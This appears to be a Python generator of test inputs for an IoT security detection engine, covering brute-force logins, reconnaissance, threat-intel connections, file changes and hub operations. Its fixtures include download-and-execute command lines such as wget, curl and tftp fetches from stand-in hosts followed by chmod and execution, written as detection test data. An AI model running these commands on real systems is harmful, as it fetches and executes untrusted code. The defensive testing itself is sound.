#!/usr/bin/python3
"""Writes the inputs of the golden cases of detection: one file an alert type or recommendation, one device a case. A device's
name says what must come of it (detect_golden.py holds the findings to that): positive, negative, boundary-in, boundary-out, late,
duplicate, replayed, aggregated-N. Rules of command lines take their lines from the samples beside the rule.
usage: detect_cases.py [FOLDER]: rewrite the inputs; then detect_golden.py --update."""
import base64, copy, json, pathlib, sys
import yaml
from detect_input import *

ROOT = pathlib.Path(__file__).resolve().parent.parent.parent
FOLDER = pathlib.Path(sys.argv[1]) if len(sys.argv) > 1 else pathlib.Path(__file__).resolve().parent / "detect"
WINDOW = 72 * HOUR  # detection takes events this late


def write(name, log, intel=None, settings=None, advisories=None):
    (FOLDER / f"{name}.jsonl").write_text(log.text())
    for form, document in (advisories or {}).items():
        (FOLDER / f"{name}.{form}.json").write_text(json.dumps(document, indent=1) + "\n")
    if intel:
        (FOLDER / f"{name}.intel.csv").write_text("type,value,category,confidence,source\n" + "\n".join(intel) + "\n")
    if settings:
        (FOLDER / f"{name}.settings.json").write_text(json.dumps(settings) + "\n")


def rules():
    for path in sorted((ROOT / "rules").rglob("*.yml")):
        for rule in yaml.safe_load_all(path.read_text()):
            yield rule


def of_sample(sample):
    """A sample of a process rule as the payload that an agent sends."""
    if isinstance(sample, str):
        sample = {"CommandLine": sample}
    extra = {"ParentImage": "ParentExecutable", "ParentCommandLine": "ParentCommandLine", "CurrentDirectory": "WorkingDirectory"}
    more = {extra[key]: value for key, value in sample.items() if key in extra}
    return process(sample["CommandLine"], user=sample.get("User"), user_id=str(sample.get("UserId", "1000")),
                   executable=sample.get("Image"), **more)


def life(log, name, payload, second=0):
    """What every event of an agent goes through: lateness, duplicates, replays, the window of suppression."""
    log.send("late", name, payload, second, delay=WINDOW + 1)
    log.send("boundary-in-age", name, payload, second, delay=WINDOW)
    once = log.event(name, payload, second)
    log.message("duplicate", second + 1, once).message("duplicate", second + 9, once)
    again = log.event(name, payload, second + 1)
    log.message("replayed", second + 2, again).message("replayed", second + 2 + DAY, again)
    for device, gap in (("boundary-one", HOUR), ("boundary-two", HOUR + 1)):
        log.send(device, name, payload, second).send(device, name, payload, second + gap)


def process_case(name, positives, negatives, intel=None):
    log = Log(name)
    for number, payload in enumerate(positives):
        log.send(f"positive-{number + 1}", "ProcessCreate", payload)
    for number, payload in enumerate(negatives):
        log.send(f"negative-{number + 1}", "ProcessCreate", payload)
    first = positives[0]
    life(log, "ProcessCreate", first)
    log.send("aggregated-40", "ProcessCreate", aggregate(first, 40, 0, 600), 601)
    counted = copy.deepcopy(aggregate(first, 7, 0, 600))
    counted["ExtraDetails"]["HitCount"] = 7  # as the C agent sends it
    log.send("aggregated-7-compat", "ProcessCreate", counted, 602, category="Aggregated")
    if not first.get("ExtraDetails") and not first.get("UserName"):
        log.send("positive-micro", "Process", micro_process(first["CommandLine"], user_id=first["UserId"]), version="2.0",
                 module="defender-iot-micro-agent")
    write(name, log, intel, {"testMode": True})  # documentation addresses stand for outside ones


A = {}  # alert type to id: spec/alerts.md section 7
for line in """A01 IoT_BinaryCommandLine A02 IoT_DisableFirewall A03 IoT_PortForwarding A04 IoT_DisableAuditdLogging A05 IoT_ReverseShell
A08 IoT_WebShell A09 IoT_CommonBots A10 IoT_FairwareMalware A11 IoT_Ransomware A12 IoT_CryptoMinerContainer A13 IoT_CryptoMiner
A14 IoT_SuspiciousNohup A15 IoT_SuspiciousUseradd A16 IoT_ExposedDocker A19 IoT_AccessingHtaccessFile A20 IoT_KnownAttackTools
A23 IoT_ScriptInterpreterMismatch A25 IoT_EgressData A26 IoT_OverridingCommonFiles A27 IoT_PrivilegedContainer A28 IoT_RemovelOfSystemLogs
A29 IoT_ExecuteFileWithTrailingSpace A30 IoT_CredentialAccessTools A31 IoT_SuspiciousCompilation A32 IoT_DownloadFileThenRun
A34 IoT_ClearHistoryFile A48 IoT_ReadingHistoryFile""".split("\n"):
    words = line.split()
    A |= {words[i + 1]: words[i] for i in range(0, len(words), 2)}


def command_lines():
    seen = set()
    for rule in rules():
        own = rule.get("fieldwatch", {})
        if own.get("alert_type") not in A or rule["logsource"].get("category") != "process_creation":
            continue
        seen.add(own["alert_type"])
        samples = own["samples"]
        process_case(f"{A[own['alert_type']]}_{own['alert_type']}", [of_sample(s) for s in samples["fires"]],
                     [of_sample(s) for s in samples["silent"]])
    assert seen == set(A), set(A) - seen
    process_case("A18_IoT_PossibleMalware",
                 [process("wget http://203.0.113.66/x"), process("curl -O http://cdn.evil.example/a"), process("tftp -g -r m 203.0.113.66")],
                 [process("wget http://203.0.113.67/x"), process("ping 203.0.113.66"), process("curl http://notevil.example/")],
                 ["ipv4,203.0.113.66,malware,90,feed", "domain,evil.example,malware,80,feed", "ipv4,203.0.113.67,malware,40,feed"])


def failures(log, device, count, second=0, step=3, address="203.0.113.5"):
    for i in range(count):
        log.send(device, "Login", login("Fail", address, pid=600 + i), second + i * step)
    return second + (count - 1) * step


def logins():
    log = Log("A06")
    for device, count, wait in (("positive", 20, 10), ("boundary-in", 10, 600), ("boundary-out-late-success", 10, 602),
                                ("boundary-out-nine", 9, 10), ("negative-three", 3, 5)):
        last = failures(log, device, count)
        log.send(device, "Login", login("Success", "203.0.113.5", pid=900), last + wait)
    last = failures(log, "negative-other-source", 20)
    log.send("negative-other-source", "Login", login("Success", "203.0.113.6", pid=900), last + 5)
    last = failures(log, "negative-logout", 20)
    log.send("negative-logout", "Login", {"Operation": "Logout", "UserName": "root", "RemoteAddress": "203.0.113.5", "ProcessId": 9},
             last + 5, version="2.0")
    for i in range(12):
        log.send("positive-micro", "Login", {"Operation": "LoginFailed", "UserName": "root", "RemoteAddress": "203.0.113.5",
                                             "ProcessId": 700 + i}, i * 2, version="2.0")
    log.send("positive-micro", "Login", {"Operation": "Login", "UserName": "root", "RemoteAddress": "203.0.113.5", "ProcessId": 9},
             40, version="2.0")
    late = [log.event("Login", login("Fail", "203.0.113.5", pid=600 + i), i) for i in range(20)]
    late.append(log.event("Login", login("Success", "203.0.113.5", pid=900), 30))
    log.message("late", 30 + WINDOW + 1, *late[:-1]).message("late", 30 + WINDOW + 2, late[-1])
    for device, won in (("positive-late-failures", 30), ("negative-late-failures", 3)):
        events = [log.event("Login", login("Fail", "203.0.113.5", pid=600 + i), i) for i in range(12)]
        success = log.event("Login", login("Success", "203.0.113.5", pid=900), won)
        log.message(device, 31, success).message(device, 40, *events)
    for device, again in (("duplicate", 60), ("replayed", DAY)):
        events = [log.event("Login", login("Fail", "203.0.113.5", pid=600 + i), i) for i in range(12)]
        events.append(log.event("Login", login("Success", "203.0.113.5", pid=900), 30))
        log.message(device, 31, *events).message(device, 31 + again, *events)
    hits = login("Fail", "203.0.113.5", pid=0) | {"ExtraDetails": {"HitCount": "25", "StartTimeUtc": stamp(0), "EndTimeUtc": stamp(240)}}
    log.send("aggregated-25", "Login", hits, 240).send("aggregated-25", "Login", login("Success", "203.0.113.5", pid=900), 300)
    for form, more in (("c", {"RemotePort": "0"}), ("us", {"RemotePort": "", "LocalPort": ""})):
        device = f"aggregated-25-{form}"
        window = {"StartTimeUtc": "03/02/2026 08:00:00", "EndTimeUtc": "03/02/2026 08:04:00"} if form == "us" else {"StartTimeUtc": stamp(0), "EndTimeUtc": stamp(240)}
        count = "25" if form == "us" else 25
        log.send(device, "Login", login("Fail", "203.0.113.5", pid=0) | more | {"ExtraDetails": window | {"HitCount": count}}, 240)
        log.send(device, "Login", login("Success", "203.0.113.5", pid=900), 300)
    log.send("aggregated-25-micro", "Login", {"Operation": "LoginFailed", "UserName": "root", "RemoteAddress": "203.0.113.5", "Timestamp": stamp(0), "HitCount": 25}, 240,
             version="2.0")
    log.send("aggregated-25-micro", "Login", {"Operation": "Login", "UserName": "root", "RemoteAddress": "203.0.113.5"}, 300, version="2.0")
    write("A06_IoT_Bruteforce_Success", log)

    log = Log("A36")
    for device, count, step in (("positive", 20, 3), ("boundary-in", 10, 66), ("boundary-out-window", 10, 67),
                                ("boundary-out-nine", 9, 3), ("negative-three", 3, 3)):
        failures(log, device, count, step=step)
    last = failures(log, "negative-succeeded", 20)
    log.send("negative-succeeded", "Login", login("Success", "203.0.113.5", pid=900), last + 10)
    late = [log.event("Login", login("Fail", "203.0.113.5", pid=600 + i), i) for i in range(20)]
    log.message("late", 20 + WINDOW + 1, *late)
    for device, again in (("duplicate", 60), ("replayed", DAY)):
        events = [log.event("Login", login("Fail", "203.0.113.5", pid=600 + i), i) for i in range(12)]
        log.message(device, 31, *events).message(device, 31 + again, *events)
    log.send("aggregated-25", "Login", hits, 240)
    write("A36_IoT_Bruteforce_Fail", log)

    for name, result, other in (("A07_IoT_SucessfulLocalLogin", "Success", "Fail"), ("A17_IoT_FailedLocalLogin", "Fail", "Success")):
        log = Log(name)
        log.send("positive", "Login", login(result)).send("positive-loopback", "Login", login(result, "127.0.0.1"))
        log.send("positive-any", "Login", login(result, "::"))
        log.send("positive-micro", "Login", {"Operation": "Login" if result == "Success" else "LoginFailed", "UserName": "root",
                                             "Executable": "tty1", "ProcessId": 7}, version="2.0")
        log.send("negative", "Login", login(other)).send("negative-remote", "Login", login(result, "10.0.0.9"))
        log.send("negative-logout", "Login", {"Operation": "Logout", "UserName": "root", "ProcessId": 7}, version="2.0")
        # Several records of one login, within five seconds, are one; later it is another, of the same alert.
        log.send("duplicate-records", "Login", login(result)).send("duplicate-records", "Login", login(result), 5)
        log.send("aggregated-2-separate", "Login", login(result)).send("aggregated-2-separate", "Login", login(result), 6)
        life(log, "Login", login(result))
        hits = login(result, pid=0) | {"ExtraDetails": {"HitCount": "6", "StartTimeUtc": stamp(0), "EndTimeUtc": stamp(60)}}
        log.send("aggregated-6", "Login", hits, 61)
        write(name, log)


def sequences():
    error = {"ConfigurationName": "highPriorityMessageFrequency", "ErrorType": "TypeMismatch", "UsedConfiguration": "PT7M",
             "Message": "not a duration"}
    operational = {"kind": "Operational"}
    log = Log("A21")
    log.send("positive", "ConfigurationError", error, **operational)
    log.send("negative", "ConfigurationError", error | {"ErrorType": "NotOptimal"}, **operational)
    log.message("negative-empty", 1, log.event("ConfigurationError", [], 0, kind="Operational", empty=True))
    log.send("late", "ConfigurationError", error, delay=WINDOW + 1, **operational)
    log.send("boundary-in-age", "ConfigurationError", error, delay=WINDOW, **operational)
    once = log.event("ConfigurationError", error, 3, **operational)
    log.message("duplicate", 4, once).message("duplicate", 5, once)
    once = log.event("ConfigurationError", error, 4, **operational)
    log.message("replayed", 5, once).message("replayed", 5 + DAY, once)
    log.send("aggregated-2", "ConfigurationError", error, **operational).send("aggregated-2", "ConfigurationError", error, 60, **operational)
    # Desired and reported agree again: the alert is resolved.
    configuration = {"ms_iotn:urn_azureiot_Security_SecurityAgentConfiguration": {"highPriorityMessageFrequency": {"value": "PT7M"}}}
    log.send("positive-resolved", "ConfigurationError", error, **operational)
    log.twin("positive-resolved", 30, "desired", configuration, "azureiotsecurity")
    log.twin("positive-resolved", 40, "reported", configuration, "azureiotsecurity")
    # However late.
    log.send("positive-resolved-late", "ConfigurationError", error, **operational)
    log.twin("positive-resolved-late", 2 * DAY, "desired", configuration, "azureiotsecurity")
    log.twin("positive-resolved-late", 2 * DAY + 10, "reported", configuration, "azureiotsecurity")
    write("A21_IoT_AgentConfigurationError", log)

    log = Log("A22")
    for i, line in enumerate(("uname -a", "id", "cat /proc/cpuinfo")):
        log.send("positive", "ProcessCreate", process(line), i * 20)
        log.send("boundary-in", "ProcessCreate", process(line), i * 30)
        log.send("boundary-out", "ProcessCreate", process(line), i * 31)
        log.send("negative-users", "ProcessCreate", process(line, user_id=str(1000 + i)), i)
        log.send("positive-micro", "Process", micro_process(line, second=i), i, version="2.0")
        log.send("late", "ProcessCreate", process(line), i, delay=WINDOW + 1)
        log.send("aggregated-9", "ProcessCreate", aggregate(process(line), 9, i, i + 30), 40 + i)
    log.send("positive-chain", "ProcessCreate", process("whoami && ip addr"))
    log.send("positive-probe", "ProcessCreate", process("/bin/busybox cat /bin/echo"))
    log.send("negative", "ProcessCreate", process("uname -a"))
    log.send("negative-pipe", "ProcessCreate", process("ps aux | grep sshd"))
    for i in range(5):
        log.send("negative-repeated", "ProcessCreate", process("uname -a"), i)
    chain = process("whoami; id; hostname")
    life(log, "ProcessCreate", chain)
    write("A22_IoT_LinuxReconnaissance", log)

    log = Log("A24")
    get, run = process("wget -O /tmp/x http://203.0.113.5/x"), process("/tmp/x -d", executable="/tmp/x", pid=90)
    for device, gap in (("positive", 60), ("boundary-in", HOUR), ("boundary-out", HOUR + 1)):
        log.send(device, "ProcessCreate", get).send(device, "ProcessCreate", run, gap)
    log.send("positive-interpreter", "ProcessCreate", process("curl -o /tmp/s.sh http://203.0.113.5/s.sh"))
    log.send("positive-interpreter", "ProcessCreate", process("sh /tmp/s.sh", pid=91), 5)
    log.send("positive-micro", "Process", micro_process("wget -O /tmp/x http://203.0.113.5/x"), version="2.0")
    log.send("positive-micro", "Process", micro_process("/tmp/x", executable="/tmp/x"), 5, version="2.0")
    log.send("negative-other", "ProcessCreate", get).send("negative-other", "ProcessCreate", process("/tmp/y", executable="/tmp/y", pid=9), 5)
    for device, fetched, ran in (("positive-local", "wget http://203.0.113.5/x", "./x"), ("positive-tftp", "cd /tmp; tftp -g -r bot 203.0.113.5", "sh /tmp/bot"),
                                 ("positive-ftpget", "ftpget 203.0.113.5 /tmp/z q", "chmod +x /tmp/z; /tmp/z"), ("positive-scp", "scp u@203.0.113.5:/d/k .", "bash k"),
                                 ("positive-folder", "wget -P /opt http://203.0.113.5/a", "nohup /opt/a &"), ("negative-sent", "scp /tmp/a u@203.0.113.5:/a", "/tmp/a"),
                                 ("negative-read", "wget -O /tmp/a http://203.0.113.5/a", "cat /tmp/a"), ("negative-path", "wget http://203.0.113.5/ls", "ls")):
        log.send(device, "ProcessCreate", process(fetched)).send(device, "ProcessCreate", process(ran, pid=92), 30)
    log.send("negative-before", "ProcessCreate", run).send("negative-before", "ProcessCreate", get, 5)
    log.send("negative-one-line", "ProcessCreate", process("wget -O /tmp/x http://203.0.113.5/x; chmod +x /tmp/x; /tmp/x"))
    log.send("late", "ProcessCreate", get, delay=WINDOW + 1).send("late", "ProcessCreate", run, 5, delay=WINDOW + 1)
    for device, second in (("positive-out-of-order", 0), ("negative-out-of-order", 31)):
        log.send(device, "ProcessCreate", run, 30).send(device, "ProcessCreate", get, second, delay=60)
    for device, again in (("duplicate", 60), ("replayed", DAY)):
        events = [log.event("ProcessCreate", get, 0), log.event("ProcessCreate", run, 10)]
        log.message(device, 11, *events).message(device, 11 + again, *events)
    log.send("aggregated-1-run", "ProcessCreate", get)
    log.send("aggregated-3-runs", "ProcessCreate", get).send("aggregated-3-runs", "ProcessCreate", aggregate(run, 3, 10, 40), 41)
    log.send("aggregated-1-run", "ProcessCreate", run, 30)
    write("A24_IoT_LinuxBackdoor", log)

    users = lambda *rows: [{"UserName": n, "UserId": str(1000 + i), "GroupNames": g, "GroupIds": ";".join(str(k) for k in range(g.count(";") + 1))}
                           for i, (n, g) in enumerate(rows)]
    before = users(("bob", "bob;video"), ("eve", "eve"))
    for name, after, other in (("A37_IoT_LocalUserAddedToGroup", users(("bob", "bob;video;sudo"), ("eve", "eve")), users(("bob", "video;bob"), ("eve", "eve"))),
                               ("A38_IoT_LocalUserRemovedFromGroup", users(("bob", "bob"), ("eve", "eve")), users(("bob", "bob;video;sudo"), ("eve", "eve"))),
                               ("A39_IoT_LocalUserDeleted", users(("bob", "bob;video")), users(("bob", "bob;video"), ("eve", "eve"), ("new", "new")))):
        line = {"A37": "usermod -aG docker bob", "A38": "gpasswd -d bob docker", "A39": "userdel -r bob"}[name[:3]]
        near = {"A37": "usermod -s /bin/sh bob", "A38": "gpasswd bob", "A39": "userdel --help"}[name[:3]]
        log = Log(name)
        log.snapshot("positive", "LocalUsers", before).snapshot("positive", "LocalUsers", after, 60)
        log.send("positive-command", "ProcessCreate", process(line, user_id="0"))
        log.send("negative-command", "ProcessCreate", process(near, user_id="0"))
        log.snapshot("negative", "LocalUsers", before).snapshot("negative", "LocalUsers", other, 60)
        log.snapshot("negative-first", "LocalUsers", after)
        log.snapshot("negative-empty", "LocalUsers", before).snapshot("negative-empty", "LocalUsers", [], 60)
        log.snapshot("positive-behind-empty", "LocalUsers", before).snapshot("positive-behind-empty", "LocalUsers", [], 60)
        log.snapshot("positive-behind-empty", "LocalUsers", after, 120)
        for round in (0, 60):  # the other part's users are there all the time
            for part, rows in (("1/2", before[:1]), ("2/2", before[1:])):
                details = {"ExtraDetails": {"SnapshotId": f"s{round}", "SnapshotPart": part}}
                log.snapshot("negative-parts", "LocalUsers", [row | details for row in rows], round)
        # An older snapshot that arrives behind a newer one says nothing about now.
        log.snapshot("negative-out-of-order", "LocalUsers", before, 100).snapshot("negative-out-of-order", "LocalUsers", after, 50, delay=90)
        log.snapshot("late", "LocalUsers", before, 100).snapshot("late", "LocalUsers", after, 200, delay=WINDOW + 1)
        log.snapshot("boundary-in", "LocalUsers", before, 100).snapshot("boundary-in", "LocalUsers", after, 200, delay=WINDOW)
        for device, again in (("duplicate", 30), ("replayed", DAY)):
            log.snapshot(device, "LocalUsers", before)
            once = log.event("LocalUsers", after, 60, category="Periodic")
            log.message(device, 61, once).message(device, 61 + again, once)
        log.send("aggregated-4", "ProcessCreate", aggregate(process(line, user_id="0"), 4, 0, 60), 61)
        write(name, log)

    flow = lambda **more: {"LocalAddress": "10.0.0.5", "RemoteAddress": "203.0.113.66", "LocalPort": 40000, "RemotePort": 443, "Protocol": "TCP",
                           "ProcessId": 8, "UserId": "0", "Executable": "/usr/bin/app", "HitCount": 1} | more
    indicators = ["ipv4,203.0.113.66,c2,90,feed", "cidr,198.51.100.0/24,c2,90,feed", "ipv4,203.0.113.67,c2,49,feed", "domain,evil.example,c2,90,feed"]
    old = {"RemoteAddress": "203.0.113.66", "RemotePort": "443", "Direction": "Out", "Protocol": "tcp", "ProcessId": 8, "UserId": "0", "Executable": "/usr/bin/app"}
    log = Log("A33")
    log.send("positive", "ConnectionCreate", old).send("positive-range", "ConnectionCreate", old | {"RemoteAddress": "198.51.100.255"})
    log.send("positive-in", "ConnectionCreate", old | {"Direction": "In"}).send("positive-micro", "NetworkActivity", flow(), version="2.0")
    log.send("negative", "ConnectionCreate", old | {"RemoteAddress": "203.0.113.65"})
    log.send("boundary-out-confidence", "ConnectionCreate", old | {"RemoteAddress": "203.0.113.67"})
    log.send("boundary-out-range", "ConnectionCreate", old | {"RemoteAddress": "198.51.101.0"})
    log.operation("positive-hub", 5, ipAddress="203.0.113.66").operation("negative-hub", 5, ipAddress="203.0.113.60")
    life(log, "ConnectionCreate", old)
    log.send("aggregated-12", "ConnectionCreate", old | {"ProcessId": 0, "ExtraDetails": {"HitCount": "12", "StartTimeUtc": stamp(0), "EndTimeUtc": stamp(60)}}, 61)
    # What field agents make of an aggregate (spec/security-messages.md section 6): C#'s blank ports and American dates, C's integers.
    us = {"HitCount": "12", "StartTimeUtc": "03/02/2026 08:00:00", "EndTimeUtc": "03/02/2026 08:01:00"}
    c = {"HitCount": 12, "StartTimeUtc": stamp(0)[:19] + "Z", "EndTimeUtc": stamp(60)[:19] + "Z"}
    inbound = old | {"Direction": "In", "ProcessId": 0}
    log.send("aggregated-12-us-out", "ConnectionCreate", old | {"ProcessId": 0, "LocalPort": "", "ExtraDetails": us}, 61, category="Aggregated")
    log.send("aggregated-12-us-in", "ConnectionCreate", inbound | {"RemotePort": "", "ExtraDetails": us}, 61, category="Aggregated")
    log.send("aggregated-12-c-in", "ConnectionCreate", inbound | {"RemotePort": 0, "ExtraDetails": c}, 61, category="Aggregated")
    log.send("aggregated-12-c-out", "ConnectionCreate", old | {"ProcessId": 0, "LocalPort": 0, "ExtraDetails": c}, 61)
    log.send("aggregated-12-no-times", "ConnectionCreate", old | {"ProcessId": 0, "ExtraDetails": {"HitCount": 12}}, 61)
    log.send("positive-mapped", "ConnectionCreate", old | {"RemoteAddress": "::ffff:203.0.113.66"})
    write("A33_IoT_TiConnection", log, indicators, {"ipCollection": True})

    log = Log("A47")
    named = lambda name, **more: flow(RemoteAddress="10.0.0.1", RemotePort=53, Protocol="UDP", ApplicationProtocol="DNS", ExtendedProperties={"HostName": name}) | more
    log.send("positive", "NetworkActivity", named("evil.example"), version="2.0")
    log.send("positive-child", "NetworkActivity", named("a.b.Evil.Example."), version="2.0")
    log.send("negative", "NetworkActivity", named("notevil.example"), version="2.0")
    log.send("negative-parent", "NetworkActivity", named("example"), version="2.0")
    log.send("positive-port", "NetworkActivity", named("evil.example.:443"), version="2.0")
    more = {"version": "2.0"}
    log.send("late", "NetworkActivity", named("evil.example"), delay=WINDOW + 1, **more)
    log.send("boundary-in-age", "NetworkActivity", named("evil.example"), delay=WINDOW, **more)
    once = log.event("NetworkActivity", named("evil.example"), 3, **more)
    log.message("duplicate", 4, once).message("duplicate", 5, once)
    once = log.event("NetworkActivity", named("evil.example"), 4, **more)
    log.message("replayed", 5, once).message("replayed", 5 + DAY, once)
    log.send("aggregated-9", "NetworkActivity", named("evil.example", HitCount=9), **more)
    write("A47_IoT_MaliciousNameQueriesDetection", log, indicators)

    sha256, sha1, md5 = "d1" * 32, "5a" * 20, "0c" * 16
    indicators = [f"sha256,{sha256},mirai,90,feed", f"sha1,{sha1},mirai,90,feed", f"md5,{md5},mirai,90,feed", f"sha256,{'e2' * 32},mirai,49,feed"]
    ran = lambda value: process("/tmp/.x 203.0.113.9", executable="/tmp/.x", Hash=value)
    log = Log("X01")
    log.send("positive", "ProcessCreate", ran(sha256)).send("positive-upper", "ProcessCreate", ran(sha256.upper()))
    log.send("positive-sha1", "ProcessCreate", ran(sha1)).send("positive-md5", "ProcessCreate", ran(md5))
    log.send("positive-micro", "Process", micro_process("/tmp/.x") | {"ExtraDetails": {"Hash": sha256}}, version="2.0", module="defender-iot-micro-agent")
    log.send("positive-file", "FileSystem", {"Path": "/usr/bin/.x", "Mask": "Created", "HitCount": 1, "ExtraDetails": {"Sha256": sha256}}, version="2.0")
    log.send("positive-component", "SBoM", {"Name": "busybox", "Version": "1.35", "ExtraDetails": {"FileHash": "sha256:" + sha256}}, version="2.0", category="Periodic")
    log.send("negative", "ProcessCreate", ran("d2" * 32)).send("negative-none", "ProcessCreate", ran(""))
    log.send("negative-in-command", "ProcessCreate", process("echo " + sha256))
    log.send("boundary-out-confidence", "ProcessCreate", ran("e2" * 32)).send("boundary-out-length", "ProcessCreate", ran(sha256[:-2]))
    life(log, "ProcessCreate", ran(sha256))
    log.send("aggregated-12", "ProcessCreate", aggregate(ran(sha256), 12, 0, 60), 61)
    write("X01_IoT_X_MaliciousFile", log, indicators)

    log = Log("A25_bytes")
    log.send("positive", "NetworkActivity", flow(BytesOut=1_000_001, RemoteAddress="8.8.4.4"), version="2.0")
    log.send("boundary-out", "NetworkActivity", flow(BytesOut=1_000_000, RemoteAddress="8.8.4.4"), version="2.0")
    log.send("negative-inside", "NetworkActivity", flow(BytesOut=9_000_000, RemoteAddress="10.0.0.9"), version="2.0")
    write("A25-bytes_IoT_EgressData", log, settings={"egress.maxBytesOut": 1_000_000})

    log = Log("A35")
    for device in ("negative-end-of-input", "negative-gap"):
        log.send(device, "ProcessCreate", process("ls"))
    log.send("negative-gap", "ProcessCreate", process("ls"), 5 * DAY)
    write("A35_IoT_DeviceSilent", log)

    log = Log("A35-others")
    for device in ("positive", "positive-comes-back", "negative-disabled", "negative-within", "noise"):
        log.send(device, "ProcessCreate", process("ls"))
    log.identity("negative-disabled", HOUR, change="update", status="disabled")
    for hours in range(20, 120, 20):
        log.send("noise", "ProcessCreate", process("ls"), hours * HOUR)
    for hours in (71, 99):
        log.send("negative-within", "ProcessCreate", process("ls"), hours * HOUR)
    log.send("positive-comes-back", "ProcessCreate", process("ls"), 99 * HOUR)
    write("A35-others_IoT_DeviceSilent", log)

    log = Log("A49")
    log.send("positive", "ProcessCreate", process("ls")).send("duplicate", "ProcessCreate", process("ls")).send("duplicate", "ProcessCreate", process("id"), 9)
    once = log.event("ProcessCreate", process("ls"), 0)
    log.message("replayed", 1, once).message("replayed", DAY, once)
    log.send("boundary-in-age", "ProcessCreate", process("ls"), delay=WINDOW + 1)  # late for detection, but a message
    log.send("aggregated-1", "ProcessCreate", aggregate(process("ls"), 8, 0, 60), 61)
    log.record("security-message", 3, {"AgentVersion": "1"}, "negative-malformed", "azureiotsecurity")
    log.send("negative-device-itself", "ProcessCreate", process("ls"), module=None)
    log.operation("negative-operation", 4)
    write("A49_IoT_DeviceOnboarded", log)


def events_of_newer_agents():
    usb = {"ActionType": "connect", "BusNumber": 1, "KernelDeviceNumber": 7, "DeviceClass": 8, "DeviceSubclass": 6, "DeviceProtocol": 80}
    net = {"ActionType": "connect", "BusNumber": 0, "InterfaceName": "eth1"}
    gone = {"ActionType": "disconnect"}
    for name, payload, near in (("A40_IoT_USBConnection", usb, net), ("A41_IoT_UsbDisconnection", usb | gone, usb), ("A42_IoT_EthernetConnection", net, usb),
                                ("A43_IoT_EthernetDisconnection", net | gone, net)):
        log = Log(name)
        newer(log, "Peripheral", payload, [near, usb | gone if payload != usb | gone else net | gone])
        write(name, log)
    for name, mask, near in (("A44_IoT_FileCreated", "Created", "Modified"), ("A45_IoT_FileModified", "Modified", "Opened"), ("A46_IoT_FileDeleted", "Deleted", "Moved")):
        log = Log(name)
        file = {"Path": "/etc/app/secret.conf", "Mask": mask, "HitCount": 1}
        newer(log, "FileSystem", file, [file | {"Mask": near}, file | {"Mask": "Accessed"}, file | {"ExtraDetails": {"WatchedBy": "default"}}])
        log.send("aggregated-5", "FileSystem", file | {"HitCount": 5}, version="2.0", category="Aggregated")
        if mask == "Modified":
            log.send("positive-metadata", "FileSystem", file | {"Mask": "Metadata changed"}, version="2.0")
        write(name, log)


def files():
    for name, payload, near in (
            ("A26-file_IoT_OverridingCommonFiles", {"Path": "/usr/bin/ls", "Mask": "Modified"},
             [{"Mask": "Opened"}, {"Path": "/usr/local/bin/tool"}, {"ExtraDetails": {"Executable": "/usr/bin/dpkg"}}]),
            ("A28-file_IoT_RemovelOfSystemLogs", {"Path": "/var/log/auth.log", "Mask": "Deleted"},
             [{"Mask": "Modified"}, {"Path": "/var/log/syslog.7.gz"}, {"ExtraDetails": {"Executable": "/usr/sbin/logrotate"}}])):
        log = Log(name)
        newer(log, "FileSystem", payload, [payload | change for change in near])
        log.send("aggregated-5", "FileSystem", payload | {"HitCount": 5}, version="2.0", category="Aggregated")
        write(name, log)


def newer(log, name, payload, near):
    more = {"version": "2.0"}
    log.send("positive", name, payload, **more)
    for number, other in enumerate(near):
        log.send(f"negative-{number + 1}", name, other, **more)
    log.send("late", name, payload, delay=WINDOW + 1, **more).send("boundary-in-age", name, payload, delay=WINDOW, **more)
    once = log.event(name, payload, 3, **more)
    log.message("duplicate", 4, once).message("duplicate", 5, once)
    once = log.event(name, payload, 4, **more)
    log.message("replayed", 5, once).message("replayed", 5 + DAY, once)
    log.send("aggregated-2-repeated", name, payload, 10, **more).send("aggregated-2-repeated", name, payload, 70, **more)


def hub_alerts():
    write_, delete = "Microsoft.Devices/iotHubs/certificates/Write", "MICROSOFT.DEVICES/IOTHUBS/CERTIFICATES/DELETE"
    setting = {"resource": "providers/microsoft.insights/diagnosticSettings/d"}
    for name, operation, good, bad, more in (
            ("H01_IoT_CertificateSuccessfullyAddedToHub", write_, ["Success"], ["Failure"], {}),
            ("H02_IoT_CertificateSuccessfullyDeletedFromHub", delete, ["Success"], ["Failure"], {}),
            ("H03_Hub_CertificateFailedToBeAddedToHub", write_, ["Failure"], ["Success"], {}),
            ("H04_IoT.Hub_CertificateFailedToBeDeletedFromHub", delete, ["Failure"], ["Success"], {}),
            ("H07_IoT_DiagnosticSettingAddedOrEditedOnHub", "Microsoft.Insights/diagnosticSettings/Write", ["Success", "Failure"], [], setting),
            ("H08_IoT_DiagnosticSettingDeletedFromHub", "Microsoft.Insights/diagnosticSettings/Delete", ["Success", "Failure"], [], setting)):
        log = Log(name)
        for i, result in enumerate(good):
            log.control(10 * i, operation, "Start", correlation=f"positive-{i}", **more).control(10 * i + 1, operation, "Accept", correlation=f"positive-{i}", **more)
            log.control(10 * i + 2, operation, result, correlation=f"positive-{i}", **more)
        for i, result in enumerate(bad):
            log.control(50 + i, operation, result, correlation=f"negative-{i}", **more)
        log.control(60, operation, "Start", correlation="negative-start", **more)
        log.control(61, "Microsoft.Devices/iotHubs/certificates/verify/action", good[0], correlation="negative-verify")
        log.control(70, operation, good[0], correlation="duplicate", **more).control(70, operation, good[0], correlation="duplicate", delay=1, **more)
        log.control(80, operation, good[0], correlation="replayed", **more).control(80, operation, good[0], correlation="replayed", delay=DAY, **more)
        log.control(81, operation, good[0], correlation="boundary-in", **more)  # no suppression: each operation alerts
        log.control(82, operation, good[0], correlation="boundary-in-too", **more)
        if "elete" in operation.lower():
            log.control(90, operation, good[0], correlation="negative-nothing-there", properties={"statusCode": "NoContent"}, **more)
        if setting == more:
            log.control(91, operation, good[0], correlation="negative-other-resource",
                        resourceId="/subscriptions/s/resourceGroups/g/providers/Microsoft.Storage/storageAccounts/s/providers/microsoft.insights/diagnosticSettings/d")
        write(name, log)
    x509 = json.dumps({"scope": "device", "type": "x509Certificate", "issuer": "external"})
    for name, reason, text, auth in (("H05_IoT_Cert_Print_Mismatch", "CertThumbprintMismatch", "the thumbprint does not match the configuration", x509),
                                     ("H06_IoT_Cert_Expired", "CertExpired", "the x509 certificate has expired", x509),
                                     ("H09_IoT_Expired_SAS_Token", "SasExpired", "the SAS token has expired", None),
                                     ("H10_IoT_Invalid_SAS_Token", "SasBadSignature", "the signature of the SAS token is wrong", None)):
        log = Log(name)
        more = {"authType": auth} if auth else {}
